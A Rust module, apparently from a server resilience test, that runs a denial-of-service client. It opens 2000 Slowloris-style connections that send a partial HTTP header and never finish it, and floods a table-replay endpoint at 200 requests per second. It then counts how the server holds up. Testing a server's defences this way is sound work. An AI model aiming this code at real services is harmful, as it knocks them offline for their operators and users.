//! A client that does its worst: connections that never end a request, and
//! replays without pause. It has a thread of its own, apart from those who play.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Builder;
use tokio::task::LocalSet;
use tokio::time::{MissedTickBehavior, interval, sleep};

use crate::Failure;

/// How many connections never end a request.
const HALF_OPEN: u64 = 2000;

/// When one of them is opened again that the house has closed.
const AGAIN: Duration = Duration::from_secs(5);

/// How many ask for replays, and how often each: 200 times a second in all.
const ASKERS: u64 = 20;
const PACE: Duration = Duration::from_millis(100);

/// What is attacked.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) house: SocketAddr,
    /// The table whose replay is asked for, and how many rows it has.
    pub(crate) table: String,
    pub(crate) rows: u64,
}

/// What the attacker did, and what the house answered.
#[derive(Default)]
struct Counts {
    held: AtomicU64,
    opened: AtomicU64,
    asked: AtomicU64,
    shown: AtomicU64,
    refused: AtomicU64,
}

/// The same, as figures.
#[derive(Serialize)]
pub(crate) struct Figures {
    /// How many connections that never end a request were opened in all, and how
    /// many of them the house still held at the end.
    pub(crate) half_open_opened: u64,
    pub(crate) half_open_held: u64,
    /// How many replays were asked for, shown, and refused.
    pub(crate) replays_asked: u64,
    pub(crate) replays_shown: u64,
    pub(crate) replays_refused: u64,
}

/// An attack under way.
pub(crate) struct Attack {
    counts: Arc<Counts>,
    end: Arc<AtomicBool>,
    thread: JoinHandle<Result<(), String>>,
}

impl Attack {
    /// Begins from this address, and waits until all connections were opened once.
    pub(crate) async fn begin(from: IpAddr, target: Target) -> Result<Attack, Failure> {
        let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
        setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum })?;
        let (counts, end) = (Arc::<Counts>::default(), Arc::<AtomicBool>::default());
        let thread = thread::spawn({
            let (counts, end) = (counts.clone(), end.clone());
            move || run(from, &target, &counts, &end).map_err(|why| why.to_string())
        });
        while counts.opened.load(Ordering::Relaxed) < HALF_OPEN && !thread.is_finished() {
            sleep(Duration::from_millis(20)).await;
        }
        Ok(Attack { counts, end, thread })
    }

    /// Ends it.
    pub(crate) fn end(self) -> Result<Figures, Failure> {
        let held = self.counts.held.load(Ordering::Relaxed);
        self.end.store(true, Ordering::Relaxed);
        self.thread.join().map_err(|_| "the attacker panicked")??;
        let count = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        Ok(Figures {
            half_open_opened: count(&self.counts.opened),
            half_open_held: held,
            replays_asked: count(&self.counts.asked),
            replays_shown: count(&self.counts.shown),
            replays_refused: count(&self.counts.refused),
        })
    }
}

fn run(
    from: IpAddr,
    target: &Target,
    counts: &Arc<Counts>,
    end: &AtomicBool,
) -> Result<(), Failure> {
    let runtime = Builder::new_current_thread().enable_all().build()?;
    let tasks = LocalSet::new();
    for _ in 0..HALF_OPEN {
        tasks.spawn_local(hold(from, target.house, counts.clone()));
    }
    for asker in 0..ASKERS {
        tasks.spawn_local(ask(from, target.clone(), asker, counts.clone()));
    }
    runtime.block_on(tasks.run_until(async {
        while !end.load(Ordering::Relaxed) {
            sleep(Duration::from_millis(20)).await;
        }
    }));
    Ok(())
}

async fn connect(from: IpAddr, house: SocketAddr) -> Result<TcpStream, Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    Ok(socket.connect(house).await?)
}

/// Begins a request and never ends it, over and over.
async fn hold(from: IpAddr, house: SocketAddr, counts: Arc<Counts>) {
    loop {
        let opened = connect(from, house).await;
        counts.opened.fetch_add(1, Ordering::Relaxed);
        if let Ok(mut line) = opened {
            counts.held.fetch_add(1, Ordering::Relaxed);
            // Whatever comes of it, the line is held until the house closes it.
            _ = line.write_all(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ").await;
            while line.read(&mut [0; 64]).await.is_ok_and(|read| read > 0) {}
            counts.held.fetch_sub(1, Ordering::Relaxed);
        }
        sleep(AGAIN).await;
    }
}

/// Asks for one replay after the other, each after another row.
async fn ask(from: IpAddr, target: Target, asker: u64, counts: Arc<Counts>) {
    let mut pace = interval(PACE);
    pace.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut line = None;
    for n in 0.. {
        pace.tick().await;
        let row = (n * ASKERS + asker) % (target.rows + 1);
        let path = format!("/tables/{}/replay?row={row}", target.table);
        counts.asked.fetch_add(1, Ordering::Relaxed);
        match request(from, target.house, &path, line.take()).await {
            Ok((kept, 200)) => {
                counts.shown.fetch_add(1, Ordering::Relaxed);
                line = Some(kept);
            }
            Ok((kept, _)) => {
                counts.refused.fetch_add(1, Ordering::Relaxed);
                line = Some(kept);
            }
            Err(_) => _ = counts.refused.fetch_add(1, Ordering::Relaxed),
        }
    }
}

/// Asks, and reads the whole answer: the line, and its status.
async fn request(
    from: IpAddr,
    house: SocketAddr,
    path: &str,
    line: Option<TcpStream>,
) -> Result<(TcpStream, u16), Failure> {
    let mut line = match line {
        Some(line) => line,
        None => connect(from, house).await?,
    };
    let request = format!("GET {path} HTTP/1.1\r\nHost: {house}\r\n\r\n");
    line.write_all(request.as_bytes()).await?;
    let mut heard = Vec::new();
    loop {
        if line.read_buf(&mut heard).await? == 0 {
            return Err("the house hangs up".into());
        }
        let Some(end) = heard.windows(4).position(|four| four == b"\r\n\r\n") else { continue };
        let head = str::from_utf8(&heard[..end])?;
        let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
        let length: usize = length.map_or(Ok(0), str::parse)?;
        if heard.len() >= end + 4 + length {
            let status = head.get(9..12).ok_or("no status")?.parse()?;
            return Ok((line, status));
        }
    }
}
